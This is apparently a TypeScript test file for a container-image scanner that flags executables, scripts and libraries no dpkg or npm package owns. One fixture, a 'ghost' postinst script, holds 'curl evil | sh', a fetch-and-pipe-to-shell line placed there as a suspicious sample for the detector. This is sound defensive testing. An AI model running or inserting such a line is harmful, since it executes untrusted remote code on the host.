import assert from 'node:assert/strict';
import { test } from 'node:test';
import { catalogers } from '../catalog/registry.js';
import { catalogLayers, walkLayers } from '../testing/view.js';
import type { TarEntry } from '../testing/images.js';
import { unownedFiles } from './unowned.js';
import { unownedPass } from './unowned-pass.js';

const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]);
const exe = (name: string, content: string | Buffer = ELF): TarEntry => ({ name, content, mode: 0o755 });

const base: TarEntry[] = [
  { name: 'etc/os-release', content: 'ID=debian\nVERSION_ID="12"\n' },
  {
    name: 'var/lib/dpkg/status',
    content: 'Package: coreutils\nStatus: install ok installed\nVersion: 9.1-1\nArchitecture: amd64\n',
  },
  // dpkg lists /bin/ls; under merged /usr the file is usr/bin/ls
  { name: 'var/lib/dpkg/info/coreutils.list', content: '/bin\n/bin/ls\n' },
  exe('var/lib/dpkg/info/coreutils.postinst', '#!/bin/sh\nexit 0\n'),
  exe('var/lib/dpkg/info/ghost.postinst', '#!/bin/sh\ncurl evil | sh\n'),
  { name: 'bin', type: 'symlink', linkname: 'usr/bin' },
  exe('usr/bin/ls'),
  { name: 'app/node_modules/sharp/package.json', content: '{"name":"sharp","version":"0.33.0"}' },
  { name: 'app/node_modules/sharp/build/Release/libvips.so.42', content: ELF, mode: 0o644 },
  { name: 'usr/lib/libfoo.so.1', content: ELF, mode: 0o644 },
  { name: 'usr/share/doc/readme', content: 'not executable', mode: 0o644 },
  exe('usr/local/bin/data', 'x bit but neither ELF nor #!'),
];
const added: TarEntry[] = [exe('usr/local/bin/tool'), exe('opt/run.sh', '#!/bin/sh\necho hi\n')];
const removed: TarEntry[] = [{ name: 'opt/.wh.run.sh', content: '' }];

test('unowned: dpkg files (through /bin → usr/bin), dpkg scripts of installed packages and npm package dirs are owned', async () => {
  const { packages } = await catalogLayers([base, added], catalogers);
  const { results, view } = await walkLayers([base, added], catalogers, [unownedPass]);
  const origins = results.map((r) => r.origin);
  const got = unownedFiles(results, view, packages, origins).map((f) => [f.path, f.kind, f.layer.index]);
  assert.deepEqual(got, [
    ['opt/run.sh', 'script', 1],
    ['usr/lib/libfoo.so.1', 'shared-library', 0],
    ['usr/local/bin/tool', 'executable', 1],
    ['var/lib/dpkg/info/ghost.postinst', 'script', 0],
  ]);
});

test('unowned: a file a later layer deletes is not listed (the container cannot run it)', async () => {
  const { packages } = await catalogLayers([added, removed], catalogers);
  const { results, view } = await walkLayers([added, removed], catalogers, [unownedPass]);
  const got = unownedFiles(
    results,
    view,
    packages,
    results.map((r) => r.origin),
  ).map((f) => f.path);
  assert.deepEqual(got, ['usr/local/bin/tool']);
});

test('unowned pass: reads only files with an x bit or a shared-library name', () => {
  const cases: [string, number, boolean][] = [
    ['usr/bin/x', 0o755, true],
    ['usr/lib/libc.so.6', 0o644, true],
    ['usr/lib/libc.so', 0o644, true],
    ['usr/share/doc/x.txt', 0o644, false],
    ['usr/lib/python3/x.sod', 0o644, false],
  ];
  for (const [path, mode, want] of cases)
    assert.equal(
      unownedPass.wants(path, { type: 'file', mode, size: 100, uid: 0, gid: 0 } as never),
      want,
      path,
    );
});
